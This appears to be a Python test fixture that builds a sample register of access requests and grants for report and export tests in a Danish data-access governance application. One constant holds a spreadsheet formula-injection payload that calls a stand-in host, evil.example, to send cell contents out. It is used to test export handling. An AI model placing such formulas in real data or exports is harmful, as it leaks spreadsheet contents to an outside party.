"""A small register with a whole journey, built through the real services, for the report
and export tests. Reviews are written as rows (the reviews service is tested on its own)."""
from __future__ import annotations

from dataclasses import dataclass
from datetime import date, timedelta

import sqlalchemy as sa

from governance.extensions import db
from governance.models import Employee, Grant, Review
from governance.services import audit, clock
from governance.services import grants as grant_service
from governance.services import requests as request_service
from governance.services.actor import Actor
from governance.services.errors import RuleViolation

TASKS = "Kontrol af lovligt ophold for EU-borgere i konkrete sager om kontanthjælp"
# Long enough for P1, and a formula if a spreadsheet ran it.
FORMULA_TASKS = '=HYPERLINK("http://evil.example/?x="&A1,"Kontrol af lovligt ophold i sager")'


def actor(username: str) -> Actor:
    return Actor.of(db.session.scalar(sa.select(Employee).where(Employee.username == username)))


def file(grantee: str, system: str, categories: tuple[str, ...], tasks: str = TASKS,
         frequency: str = "weekly") -> int:
    data = request_service.parse_request_input(
        {"grantee": grantee, "system": system, "frequency": frequency, "tasks": tasks,
         "data_categories": list(categories)}, actor(grantee))
    req, _ = request_service.request_access(db.session, actor(grantee), data)
    db.session.flush()
    return req.id


def grant_of(request_id: int) -> Grant:
    return db.session.scalar(sa.select(Grant).where(Grant.request_id == request_id))


def approve(request_id: int, approver: str = "kfi") -> Grant:
    request_service.decide(db.session, actor(approver), request_id, "approve", "Relevant")
    return grant_of(request_id)


def activate(grant: Grant, user_admin: str, today: date) -> Grant:
    grant_service.acknowledge(db.session, actor(grant.grantee.username), today=today)
    grant_service.fulfil(db.session, actor(user_admin), grant.id, today=today)
    assert grant.status == "active"
    return grant


@dataclass
class Journey:
    today: date
    kept: int         # active, reviewed and kept today
    revoked_open: int  # active, then revoked: not yet removed from the system
    removed: int      # active, revoked and removed
    formula: int      # approved with tasks starting with '=', not yet carried out
    overdue: int      # active, review due ten days ago
    pending: int
    rejected: int
    withdrawn: int


def build_journey() -> Journey:
    today = clock.today()
    kept = activate(approve(file("ahn", "UIS", ("residence",))), "rha", today)
    revoked_open = activate(approve(file("mbe", "CPR", ("address",)), "tko"), "tbr", today)
    grant_service.revoke(db.session, actor("kfi"), revoked_open.id, "Opgaven er afsluttet")
    removed = activate(approve(file("lpe", "CVR", ("employment",))), "ekj", today)
    grant_service.revoke(db.session, actor("kfi"), removed.id, "Flyttet til andet team")
    grant_service.fulfil(db.session, actor("ekj"), removed.id)
    formula = approve(file("sjo", "UIS", ("residence",), FORMULA_TASKS), "tko")
    overdue = activate(approve(file("nra", "EINDKOMST", ("income",))), "mlu", today)
    overdue.review_due = today - timedelta(days=10)

    db.session.add(Review(grant=kept, reviewer_id=actor("kfi").employee_id, decision="keep",
                          comment="Behovet består", reviewed_on=today,
                          due_before=kept.review_due, due_after=date(today.year + 1, 12, 1)))
    kept.review_due = date(today.year + 1, 12, 1)

    pending = file("ahn", "CVR", ("employment",))
    rejected = file("mbe", "UIS", ("residence",))
    request_service.decide(db.session, actor("tko"), rejected, "reject", "Ikke behov")
    withdrawn = file("lpe", "UIS", ("residence",))
    request_service.withdraw(db.session, actor("lpe"), withdrawn)
    refuse("ahn", "ACADRE", ("health",))
    refuse("sjo", "CPR", ("religion", "address"))
    refuse("sjo", "CVR", ("employment",), frequency="once")
    db.session.commit()
    return Journey(today, kept.id, revoked_open.id, removed.id, formula.id, overdue.id,
                   pending, rejected, withdrawn)


def refuse(grantee: str, system: str, categories: tuple[str, ...], **extra) -> None:
    """A request the rules refuse, audited as the web and API layers audit it."""
    try:
        file(grantee, system, categories, **extra)
    except RuleViolation as error:
        audit.record(db.session, actor=grantee, **error.audit)
    else:
        raise AssertionError("expected the rules to refuse the request")
